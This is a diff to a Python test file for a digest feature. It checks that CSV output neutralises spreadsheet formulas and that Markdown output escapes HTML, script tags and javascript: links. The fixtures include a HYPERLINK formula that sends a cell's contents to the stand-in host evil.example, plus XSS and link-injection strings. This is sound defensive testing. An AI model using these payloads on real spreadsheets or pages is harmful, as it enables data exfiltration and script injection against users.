@@ -13,7 +13,7 @@ from flows.cli import app
 from schemas.settings import LakeLocation
 from tests.research_fixtures import Ev, at, land, research_warehouse, story
 from warehouse import db
-from warehouse.digest import build_digest, render_markdown, write_digest
+from warehouse.digest import EventRow, build_digest, render_markdown, write_digest
 
 runner = CliRunner()
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -42,20 +42,24 @@ def test_the_digest_csv_neutralises_formulas_and_its_markdown_escapes_html_and_l
     md = md_file.read_text(encoding="utf-8")
     assert "HYPERLINK" in md and "&lt;script&gt;alert(1)&lt;/script&gt;" in md and "\\[council\\]" in md
     assert "<script" not in md and "<img" not in md and "![" not in md
-    # the only live links are the digest's own article links
-    assert not re.search(r"(?<!\\)\]\(", re.sub(r"\[link\]\(https://[^()\s]*\)", "", md))
+    # the only live links are the digest's own article links: [escaped title](http(s) URL with no parentheses)
+    own = r"(?<!\\)\[(?:[^\[\]\\]|\\.)*\]\(https://[^()\s]*\)"
+    assert re.search(own, md)
+    assert not re.search(r"(?<!\\)\]\(", re.sub(own, "", md))
 
 
 def test_markdown_cells_escape_every_hostile_piece(warehouse: LakeLocation) -> None:
     with db.reader(warehouse) as con:
         digest = build_digest(con, "2026-W11")
-    digest.new_adoptions = [("A <b>x</b> | [y](javascript:z) `c` *d* \\ e", "TX", "drones", None, "acquires",
-                             None, "evidence\nsplit", "https://evil.example/a) [x](javascript:y")]
+    digest.events = [EventRow("new_adoption", False, "A <b>x</b> | [y](javascript:z) `c` *d* \\ e", "TX", "drones",
+                              None, "acquires", "2026-03-12", "evidence\nsplit", "T [t](javascript:u)", "o|p",
+                              "https://evil.example/a) [x](javascript:y")]
     md = render_markdown(digest)
     row = next(line for line in md.splitlines() if line.startswith("| A "))
     assert row.startswith("| A &lt;b&gt;x&lt;/b&gt; \\| \\[y\\](javascript:z) `c` *d* \\\\ e | TX |")
     assert "evidence split" in row
-    assert row.endswith("[link](https://evil.example/a%29%20%5Bx%5D%28javascript:y) |")
+    assert row.endswith("| [T \\[t\\](javascript:u)](https://evil.example/a%29%20%5Bx%5D%28javascript:y), o\\|p, "
+                        "2026-03-12 |")
 
 
 def test_query_and_export_csv_neutralise_formulas_unless_raw(warehouse: LakeLocation, tmp_path: Path) -> None:
